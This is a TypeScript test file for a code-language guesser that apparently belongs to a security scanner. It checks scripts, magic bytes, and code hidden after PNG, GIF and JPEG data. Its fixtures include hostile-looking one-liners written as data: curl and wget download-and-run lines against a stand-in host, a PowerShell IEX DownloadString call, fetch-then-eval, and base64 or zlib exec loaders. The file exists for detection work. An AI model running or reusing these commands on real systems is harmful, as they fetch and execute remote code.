/** Languages are told by name, first line, first bytes and words; prose, data and fonts are none. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { guessLanguage } from './guess.ts';
import { languageOfCommand } from './guess-text.ts';
import { tailOfImage } from './image-tail.ts';

const TEXTS: readonly (readonly [string, string, string])[] = [
  ['', 'import os\nos.system("id")', 'python'],
  ['', "exec(__import__('zlib').decompress(b'x'))", 'python'],
  ['', 'def f(x):\n    return x', 'python'],
  ['', "from base64 import b64decode as d;exec(d('eA=='))", 'python'],
  ['', "const a = require('fs'); a.readFileSync('x')", 'javascript'],
  ['', '(function(){var _0x1=["a"];eval(_0x1[0])})()', 'javascript'],
  ['', 'fetch("http://a.example").then(r => r.text()).then(eval)', 'javascript'],
  ['', 'curl -s http://a.example/x | sh', 'shell'],
  ['', '#!/bin/sh\nfoo', 'shell'],
  ['', 'for f in *; do\n  rm -f "$f"\ndone\n', 'shell'],
  ['', 'cd /tmp && wget http://a.example/x && chmod +x x && ./x', 'shell'],
  ['', "IEX (New-Object Net.WebClient).DownloadString('http://a.example')", 'powershell'],
  ['', '$a = [Convert]::FromBase64String("eA==")\nWrite-Host $a', 'powershell'],
  ['', '@echo off\r\nset A=1\r\necho %A%\r\n', 'batch'],
  ['', 'start "" /b "%TEMP%\\x.exe"\r\ndel /q "%~f0"', 'batch'],
  ['', 'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"', 'vbscript'],
  ['', 'On Error Resume Next\r\nDim a\r\na = Chr(65) & Chr(66)', 'vbscript'],
  ['', 'use strict;\nmy $x = 1;\nprint $x;', 'perl'],
  ['readme.txt', 'This package helps you to import data from files. If you use it, let us know.', 'text'],
  ['', 'The quick brown fox jumps over the lazy dog and then it runs for the hills in the end.', 'text'],
  ['a.json', '{"name": "x", "scripts": {"test": "node x"}}', 'text'],
  ['', 'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=', 'text'],
  ['setup', '#!/usr/bin/env python3\nx', 'python'],
  ['run', '#!/usr/bin/env node\nx', 'javascript'],
  ['validator.js', '#!/bin/bash\n\nconst a = require("fs");', 'javascript'],
  ['a.ps1', 'x', 'powershell'],
  ['lib.ts', 'x', 'javascript'],
  ['data.dat', 'import socket,subprocess\ns=socket.socket()\n', 'python'],
  ['notes.txt', "const cp = require('child_process'); cp.exec('x');", 'javascript'],
];

for (const [path, text, expected] of TEXTS) {
  test(`${expected}: ${path} ${JSON.stringify(text.slice(0, 50))}`, () => {
    assert.equal(guessLanguage(path, text), expected);
  });
}

const BYTES: readonly (readonly [string, number[], string])[] = [
  ['an ELF file without a name', [0x7f, 0x45, 0x4c, 0x46, 2, 1], 'native'],
  ['a picture that is called a script', [0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10], 'data'],
  ['a font', [0x77, 0x4f, 0x46, 0x32, 0, 1], 'data'],
  ['bytes', [1, 2, 3, 0, 5, 255], 'data'],
];

for (const [name, bytes, expected] of BYTES) {
  test(`${name} is ${expected}`, () => assert.equal(guessLanguage('a.py', Uint8Array.from(bytes)), expected));
}

test('UTF-16 text is read as text', () => {
  assert.equal(guessLanguage('', Buffer.from("\ufeffIEX (New-Object Net.WebClient).DownloadString('x')", 'utf16le')), 'powershell');
});

test('a Windows command line is told from a Unix one', () => {
  assert.equal(languageOfCommand('start /b %APPDATA%\\x.exe'), 'batch');
  assert.equal(languageOfCommand('curl http://a.example | sh'), 'shell');
});

function png(tail: string): Uint8Array {
  const chunk = (type: string, data: number[]) => [0, 0, 0, data.length, ...Buffer.from(type), ...data, 0, 0, 0, 0];
  return Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, ...chunk('IHDR', new Array<number>(13).fill(0)), ...chunk('IEND', []), ...Buffer.from(tail)]);
}

test('code behind the end of a picture is found, padding is not', () => {
  assert.equal(Buffer.from(tailOfImage(png('print(1)')) ?? []).toString(), 'print(1)');
  assert.equal(tailOfImage(png('')), undefined);
  assert.equal(tailOfImage(png('\0\0\n')), undefined);
  const gif = [...Buffer.from('GIF89a'), 1, 0, 1, 0, 0, 0, 0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 1, 0, 0, 0x3b];
  assert.equal(Buffer.from(tailOfImage(Uint8Array.from([...gif, 0x78, 0x79])) ?? []).toString(), 'xy');
  const jpeg = [0xff, 0xd8, 0xff, 0xda, 0, 4, 1, 2, 9, 0xff, 0, 9, 0xff, 0xd9];
  assert.equal(Buffer.from(tailOfImage(Uint8Array.from([...jpeg, 0x7a])) ?? []).toString(), 'z');
  assert.equal(tailOfImage(Uint8Array.from(jpeg)), undefined);
});
